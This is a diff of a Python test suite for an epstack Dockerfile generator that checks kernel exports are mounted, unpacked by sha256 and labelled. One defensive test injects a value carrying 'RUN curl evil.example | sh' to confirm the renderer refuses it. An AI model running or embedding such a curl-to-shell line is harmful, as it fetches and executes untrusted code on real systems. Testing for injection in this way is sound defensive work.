@@ -1,5 +1,6 @@
 """The kernels layer's Dockerfile (images/kernels/Dockerfile.j2): lint-clean, over the image it names,
-unpacking the export by its sha256 before the guard runs; its tag derived from the image's."""
+unpacking each export (DeepEP's, DeepGEMM's) by its sha256 before the guard runs; its tag derived from
+the image's and the exports' digests."""
 
 from __future__ import annotations
 
@@ -15,20 +16,29 @@ from hypothesis import strategies as st
 
 from epstack import imagepaths
 from epstack.errors import BadInput
-from epstack.image.kernels import ARCHIVE, dockerfile, kernels_tag
+from epstack.image.kernels import LayerExport, dockerfile, exports_digest, kernels_tag
 from epstack.image.oci import parse_reference
-from epstack.jitcache import KernelCache
+from epstack.jit import deepgemm
 from tests.conftest import venv_tool
+from tests.jit.test_deepgemm import KEY as DG_KEY
+from tests.jit.test_deepgemm import write_cache
 from tests.test_jitcache import export_of, h200_kernels, sha256
 
 IMAGE = "123456789012.dkr.ecr.us-east-1.amazonaws.com/epstack:sglang-0.5.23-hopper-efa"
 IMAGE_ID = "sha256:" + "4f" * 32
 DATA, MANIFEST = export_of(h200_kernels())
 SHA256 = sha256(DATA)
+DEEPEP = LayerExport(tool="deep_ep", manifest=MANIFEST, data=DATA, sha256=SHA256)
+ARCHIVE = DEEPEP.archive
 
 
-def render(image: str = IMAGE, manifest: KernelCache = MANIFEST) -> str:
-    return dockerfile(image=image, image_id=IMAGE_ID, manifest=manifest, sha256=SHA256)
+def deepgemm_export(tmp_path: Path) -> LayerExport:
+    data, manifest = deepgemm.pack(write_cache(tmp_path / "dg"), DG_KEY)
+    return LayerExport(tool="deep_gemm", manifest=manifest, data=data, sha256=sha256(data))
+
+
+def render(image: str = IMAGE, exports: tuple[LayerExport, ...] = (DEEPEP,)) -> str:
+    return dockerfile(image=image, image_id=IMAGE_ID, exports=exports)
 
 
 def hadolint(text: str, folder: Path) -> list[dict[str, object]]:
@@ -46,6 +56,7 @@ def hadolint(text: str, folder: Path) -> list[dict[str, object]]:
 
 def test_the_kernels_dockerfile_passes_hadolint(tmp_path: Path) -> None:
     assert hadolint(render(), tmp_path) == []
+    assert hadolint(render(exports=(DEEPEP, deepgemm_export(tmp_path))), tmp_path) == []
 
 
 def instructions(text: str) -> list[str]:
@@ -68,7 +79,26 @@ def test_it_unpacks_the_export_by_its_sha256_over_the_image_then_guards() -> Non
     assert f'org.opencontainers.image.base.name="{IMAGE}"' in label
     assert f'org.opencontainers.image.base.digest="{IMAGE_ID}"' in label
     assert f'io.epstack.kernels.sha256="{SHA256}"' in label
-    assert f"(13 kernels, {MANIFEST.bytes:,} bytes; NVIDIA H200, sm 9.0, nvcc 13.0)" in text
+    assert f"deep_ep: 13 kernels, {MANIFEST.bytes:,} bytes; NVIDIA H200, sm 9.0, nvcc 13.0" in text
+
+
+def test_each_export_is_mounted_and_unpacked_by_its_own_digest_and_labelled_by_theirs(tmp_path: Path) -> None:
+    dg = deepgemm_export(tmp_path)
+    text = render(exports=(DEEPEP, dg))
+    (run,) = [step for step in instructions(text) if "epstack jit unpack" in step]
+    for item in (DEEPEP, dg):
+        mount = f"--mount=type=bind,source={item.archive},target=/tmp/epstack-kernels/{item.archive}"
+        unpack = f"epstack jit unpack /tmp/epstack-kernels/{item.archive} --sha256 {item.sha256} && "
+        assert (
+            run.index(mount)
+            < run.index("epstack jit unpack")
+            <= run.index(unpack)
+            < run.index("epstack guard")
+        )
+    assert f'io.epstack.kernels.sha256="{exports_digest([SHA256, dg.sha256])}"' in text
+    assert "deep_gemm: 2 kernels" in text and "nvcc V13.0.88" in text
+    with pytest.raises(BadInput, match="two exports of deep_ep's kernels; fix: one --export per toolchain"):
+        render(exports=(DEEPEP, DEEPEP))
 
 
 @pytest.mark.parametrize(
@@ -82,7 +112,13 @@ def test_it_unpacks_the_export_by_its_sha256_over_the_image_then_guards() -> Non
     ],
 )
 def test_kernels_tag(image: str, tag: str) -> None:
-    assert kernels_tag(image, SHA256) == tag.format(short=SHA256[:12])
+    assert kernels_tag(image, [SHA256]) == tag.format(short=SHA256[:12])
+    both = exports_digest([SHA256, "b" * 64])
+    assert (
+        kernels_tag(image, [SHA256, "b" * 64])
+        == tag.format(short=both[:12])
+        != kernels_tag(image, ["b" * 64, SHA256])
+    )
 
 
 TAGS = st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}", fullmatch=True)
@@ -94,7 +130,7 @@ HOSTS = st.sampled_from(["", "localhost/", "host:5000/", "123456789012.dkr.ecr.u
 def test_a_kernels_tag_is_a_tag_a_registry_takes_or_refused(host: str, path: str, tag: str) -> None:
     image = f"{host}{path}{':' + tag if tag else ''}"
     try:
-        made = parse_reference(kernels_tag(image, SHA256))
+        made = parse_reference(kernels_tag(image, [SHA256]))
     except BadInput as refused:
         assert "--tag" in str(refused) and len(tag) > 128 - len(f"-kernels-{SHA256[:12]}")
         return
@@ -107,7 +143,7 @@ def test_text_from_the_export_never_becomes_an_instruction(field: str) -> None:
     injected: dict[str, Any] = {field: "9.0\nRUN curl evil.example | sh"}
     hostile = replace(MANIFEST, key=replace(MANIFEST.key, **injected))
     with pytest.raises(BadInput, match="one line of printable text"):
-        render(manifest=hostile)
+        render(exports=(replace(DEEPEP, manifest=hostile),))
 
 
 def test_an_image_that_is_not_a_reference_is_refused() -> None:
